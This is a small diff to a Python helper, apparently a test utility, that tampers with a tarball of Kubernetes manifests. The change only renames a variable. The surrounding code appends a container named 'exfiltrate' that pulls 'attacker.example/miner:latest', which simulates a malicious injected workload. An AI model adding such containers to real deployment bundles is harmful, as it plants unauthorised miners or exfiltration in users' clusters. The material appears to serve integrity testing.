@@ -225,10 +225,11 @@ def _tamper(tarball: Path, namespace: str) -> str:
     buffer = io.BytesIO()
     target = ""
     with tarfile.open(fileobj=buffer, mode="w", format=tarfile.PAX_FORMAT) as out:
-        for member, data in members:
+        for member, original in members:
+            data = original
             if not target and member.name.startswith(prefix):
                 target = member.name
-                obj = json.loads(data)
+                obj = json.loads(original)
                 obj["spec"]["template"]["spec"]["containers"].append(
                     {"name": "exfiltrate", "image": "attacker.example/miner:latest"}
                 )
